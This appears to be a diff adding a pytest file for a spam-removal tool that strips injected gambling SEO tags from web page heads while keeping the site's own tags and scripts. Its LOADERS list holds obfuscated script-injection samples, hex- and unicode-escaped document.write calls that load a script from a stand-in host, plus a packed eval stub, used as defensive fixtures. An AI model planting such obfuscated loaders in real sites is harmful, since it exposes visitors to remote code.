@@ -1,0 +1,108 @@
+"""What comes with spam in a head: tags that say the same, proofs of ownership, loaders, and the title itself."""
+
+from __future__ import annotations
+
+import pytest
+
+from spamguard.removal.splice import splice
+from tests.examine.scenes import plans_for
+
+PAGE = (
+    b"<html>\n<head>\n%s<title>%s</title>\n%s</head>\n<body>\n"
+    b'<p>The library opens at nine. <a href="https://library.example.org/">Read here.</a></p>\n</body>\n</html>\n'
+)
+TITLE = b"Village library"
+AMP = b'<link rel="amphtml" href="https://amp.rajaslot.example.net/x/">'
+PROOF = b'<meta name="google-site-verification" content="Qx3fT8">'
+OG = b'<meta property="og:title" content="Rajaslot casino slots poker bonus">'
+
+
+def _cut(data: bytes, *texts: bytes) -> tuple[bytes, str | None]:
+    """The page without the block that some texts make, and the doubt about it."""
+    spans = [(data.index(text), data.index(text) + len(text)) for text in texts]
+    page, plans = plans_for(data, [(spans[0][0], spans[-1][1])] if len(spans) == 1 else spans)
+    edits = sorted({edit for plan in plans for edit in plan.edits})
+    return splice(page.raw, edits, page.codec), next((plan.doubt for plan in plans if plan.doubt), None)
+
+
+@pytest.mark.parametrize(
+    "tags",
+    [
+        [AMP, PROOF, OG],
+        [PROOF, AMP, OG],
+        [AMP, OG, PROOF],
+        [AMP, b'<meta name="page search" content="rajaslot">', OG],
+        [AMP, b'<meta name="robots" content="index, follow">', OG],
+        [b'<link rel="canonical" href="https://rajaslot-id.example.net/">', OG],
+        [OG, b'<meta property="og:url" content="https://rajaslot.example.com/">'],
+        [OG, b'<meta name="twitter:title" content="Rajaslot poker bonus">'],
+    ],
+    ids=["proof between", "proof first", "proof last", "echo", "setting", "canonical", "address", "told twice"],
+)
+@pytest.mark.parametrize("indent", [b"", b"  "])
+def test_tags_that_came_along_go(tags: list[bytes], indent: bytes) -> None:
+    indent = b"" if tags[0] == PROOF else indent
+    spam = b"".join(indent + tag + b"\n" for tag in tags)
+    data = PAGE % (spam, TITLE, b"") if tags[0] == PROOF else PAGE % (b"", TITLE, spam)
+    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (b"", TITLE, b""), None)
+
+
+@pytest.mark.parametrize(
+    "own",
+    [
+        PROOF,
+        b'<link rel="canonical" href="https://library.example.org/">',
+        b'<meta name="author" content="Town of Sampleton">',
+        b'<meta property="og:url" content="https://library.example.org/">',
+        b'<link rel="canonical" href="https://first.example.com/story">',
+    ],
+    ids=["proof", "canonical", "author", "address", "where the story was first"],
+)
+def test_the_sites_own_tags_beside_spam_stay(own: bytes) -> None:
+    data = PAGE % (own + b"\n" + OG + b"\n", TITLE, b"")
+    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (own + b"\n", TITLE, b""), None)
+
+
+LOADERS = [
+    (
+        rb"""<script>window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]"""
+        rb"""('<scr'+'ipt src="//a.example.net/t.js"></scr'+'ipt>')</script>"""
+    ),
+    (
+        rb"""<script>window["\u0064\u006f\u0063\u0075\u006d\u0065\u006e\u0074"].body.lastChild.src="""
+        rb""""//a.example.net/t.js"</script>"""
+    ),
+    b"<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>",
+]
+
+
+@pytest.mark.parametrize("loader", LOADERS, ids=["hexadecimal", "units", "packed"])
+def test_a_loader_between_spam_and_title_goes(loader: bytes) -> None:
+    data = PAGE % (OG + b"\n" + loader + b"\n", TITLE, b"")
+    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (b"", TITLE, b""), None)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        b"<script>document.write('<script src=\"/own.js\"><\\/script>')</script>",
+        rb"<script>var dash='\u2013';document.title+=dash</script>",
+    ],
+)
+def test_a_plain_script_beside_spam_stays(script: bytes) -> None:
+    data = PAGE % (OG + b"\n" + script + b"\n", TITLE, b"")
+    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (script + b"\n", TITLE, b""), None)
+
+
+def test_a_title_that_social_sites_are_told_is_proposed_and_not_put_in_unasked() -> None:
+    told = b'<meta property="og:title" content="Village &amp; town library">\n'
+    result, doubt = _cut(PAGE % (told, b"casino slots poker bonus", b""), b"casino slots poker bonus")
+    assert result == PAGE % (told, b"Village & town library", b"")
+    assert doubt is not None
+    assert "og:title" in doubt
+
+
+def test_a_title_that_says_what_the_spam_says_is_not_proposed() -> None:
+    told = b'<meta property="og:title" content="casino slots poker bonus here">\n'
+    result, doubt = _cut(PAGE % (told, b"casino slots poker bonus", b""), b"<title>casino slots poker bonus")
+    assert (result, doubt) == (PAGE % (told, b"", b""), "nothing on the page tells the true title")
